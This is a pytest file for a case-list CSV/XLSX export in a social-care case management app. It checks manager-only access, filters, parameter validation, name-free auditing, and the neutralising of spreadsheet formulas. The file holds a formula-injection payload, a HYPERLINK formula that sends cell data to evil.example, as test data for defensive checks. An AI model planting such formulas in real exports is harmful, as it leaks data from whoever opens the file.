"""The case list export (issue 14 §4): managers of a centre download its cases as CSV or XLSX with the
case list's filters; nobody else may; a cell that a spreadsheet would run is text; each export is
audited without a name; no name reaches a log line."""

from __future__ import annotations

import csv
import io
import json
import logging

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import select

from engine.casework.cases import close_case
from engine.people.permissions import SYSTEM
from engine.people.users import create_user, get_user, principal_for
from engine.services import Services
from engine.store.models import AuditEvent
from tests.web.conftest import PASSWORD, WebWorld, login, open_case, username

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Мария")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def exported(services: Services, world: WebWorld) -> dict[str, str]:
    """A second manager in each centre (one named like a formula), a case named like a formula and a
    closed case in the own centre."""
    with services.uow() as uow:
        create_user(uow, SYSTEM, "a-manager-2", PASSWORD, "kc-test", "manager", "@SUM(1+1)")
        create_user(uow, SYSTEM, "b-manager-2", PASSWORD, "kc-other", "manager", "Друг управител 2")
        evil = open_case(uow, "kc-test", username("social_worker"), EVIL)
        closed = open_case(uow, "kc-test", username("social_worker"), "Ива Закрита")
        manager = principal_for(get_user(uow, username("manager")))
        close_case(uow, manager, closed.public_id, "left the centre")
        uow.commit()
        return {"evil": evil.number, "closed": closed.number, "evil_id": evil.public_id}


def client_of(app: Flask, name: str) -> FlaskClient:
    client = app.test_client()
    login(client, name)
    return client


def csv_rows(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def xlsx_rows(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype == XLSX
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    assert sheet is not None
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type == "s" or cell.value is None, (cell.coordinate, cell.data_type)  # no "f"
    values = sheet.iter_rows(values_only=True)
    return [["" if value is None else str(value) for value in row] for row in values]


@pytest.mark.parametrize("manager", ["a-manager", "a-manager-2"])
def test_both_managers_of_a_centre_export_its_cases_only(app, exported, manager):
    client = client_of(app, manager)
    rows = csv_rows(client.get("/cases/export.csv?status=all"))
    numbers = {row[0] for row in rows[1:]}
    assert {"KC-TEST-2025-0001", exported["evil"], exported["closed"]} <= numbers
    assert all(number.startswith("KC-TEST") for number in numbers)
    assert rows[0][:3] == ["Номер на случая", "Център", "Пътека"]
    assert xlsx_rows(client.get("/cases/export.xlsx?status=all"))[1:] == rows[1:]
    assert "Тайна" not in str(rows)  # the centre's confidential address (tests/web/conftest.py) never
    # The other centre named in the filter gives nothing of it.
    assert csv_rows(client.get("/cases/export.csv?status=all&centre=kc-other"))[1:] == []


@pytest.mark.parametrize("manager", ["b-manager", "b-manager-2"])
def test_the_other_centres_managers_export_theirs(app, exported, manager):
    rows = csv_rows(client_of(app, manager).get("/cases/export.csv?status=all"))
    assert [row[0][:8] for row in rows[1:]] == ["KC-OTHER"]
    assert rows[1][-1] == "Елена Д."


@pytest.mark.parametrize("role", ["social_worker", "case_lead", "coordinator", "admin", "psychologist"])
def test_others_may_not_export_and_see_no_link(as_role, exported, role):
    client = as_role(role)
    assert client.get("/cases/export.csv").status_code == 403
    assert client.get("/cases/export.xlsx").status_code == 403
    assert client.get("/api/v1/cases/export?format=csv").status_code == 403
    if role in ("social_worker", "case_lead", "psychologist"):
        assert "/cases/export.csv" not in client.get("/cases").get_data(as_text=True)


def test_the_case_list_links_to_its_export_with_its_filters(as_role, exported):
    html = as_role("manager").get("/cases?status=closed&q=Ива").get_data(as_text=True)
    assert "/cases/export.csv?" in html and "/cases/export.xlsx?" in html
    assert "status=closed" in html.split("/cases/export.csv?")[1].split('"')[0]


def test_a_formula_name_is_text_in_csv_and_xlsx(app, exported):
    client = client_of(app, "a-manager")
    for rows in (
        csv_rows(client.get("/cases/export.csv")),
        xlsx_rows(client.get("/cases/export.xlsx")),
        xlsx_rows(client.get("/api/v1/cases/export?format=xlsx")),
    ):
        [row] = [row for row in rows if row[0] == exported["evil"]]
        assert row[-1] == "'" + EVIL
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)


def test_the_audit_csv_neutralises_a_formula_too(app, exported):
    reader = client_of(app, "a-manager-2")  # display name "@SUM(1+1)"
    assert reader.get(f"/cases/{exported['evil_id']}").status_code == 200
    rows = csv_rows(reader.get(f"/cases/{exported['evil_id']}/audit.csv"))
    assert "'@SUM(1+1)" in {cell for row in rows for cell in row}
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_the_filters_of_the_case_list_are_respected(app, services, exported):
    client = client_of(app, "a-manager")
    month = services.clock.now().strftime("%Y-%m")
    numbers = lambda query: {row[0] for row in csv_rows(client.get(f"/cases/export.csv?{query}"))[1:]}  # noqa: E731
    assert exported["closed"] not in numbers("")  # open cases, as the list shows by default
    assert numbers("status=closed") == {exported["closed"]}
    assert numbers("status=all&q=Закрита") == {exported["closed"]}
    assert exported["evil"] in numbers(f"status=all&arrived={month}")
    assert numbers("status=all&arrived=2001-01") == set()
    assert numbers("status=closed&stay=staying") == set()
    api = client.get("/api/v1/cases/export?format=csv&status=closed")
    assert {row[0] for row in csv_rows(api)[1:]} == {exported["closed"]}
    rows = csv_rows(client.get("/cases/export.csv?status=closed"))
    admitted, left, closed = rows[1][6:9]
    assert admitted[:10] == closed[:10] == services.clock.now().date().isoformat()  # ISO 8601
    assert "T" in admitted and admitted.endswith("+00:00") and left == ""


@pytest.mark.parametrize(
    ("url", "field"),
    [
        ("/cases/export.csv?status=bogus", "status"),
        ("/cases/export.xlsx?stay=forever", "stay"),
        ("/cases/export.csv?arrived=13-2025", "arrived"),
        ("/cases/export.csv?led=yes", "led"),
        ("/api/v1/cases/export?format=pdf", "format"),
        ("/api/v1/cases/export?format=csv&status=bogus", "status"),
        ("/api/v1/cases/export?format=csv&exit_planning=maybe", "exit_planning"),
    ],
)
def test_bad_parameters_answer_400_naming_the_field(app, exported, url, field):
    response = client_of(app, "a-manager").get(url)
    assert response.status_code == 400
    assert field in response.get_data(as_text=True)


def test_each_export_is_audited_with_filters_and_count_never_a_name(app, services, exported, caplog):
    caplog.set_level(logging.DEBUG)
    client = client_of(app, "a-manager")
    csv_rows(client.get("/cases/export.csv?status=all&q=Мария"))
    xlsx_rows(client.get("/api/v1/cases/export?format=xlsx&status=closed"))
    with services.uow() as uow:
        entries = uow.session.scalars(
            select(AuditEvent).where(AuditEvent.action == "case.export").order_by(AuditEvent.id)
        ).all()
        assert [(e.actor, e.detail["format"], e.detail["status"], e.detail["rows"]) for e in entries] == [
            ("a-manager", "csv", "all", 2),
            ("a-manager", "xlsx", "closed", 1),
        ]
        assert entries[0].detail["search"] is True and entries[1].detail["search"] is False
        stored = json.dumps([(e.subject, e.detail) for e in entries], ensure_ascii=False)
    for name in ("Мария", "HYPERLINK", "Ива", "Закрита"):
        assert name not in stored
        assert name not in caplog.text
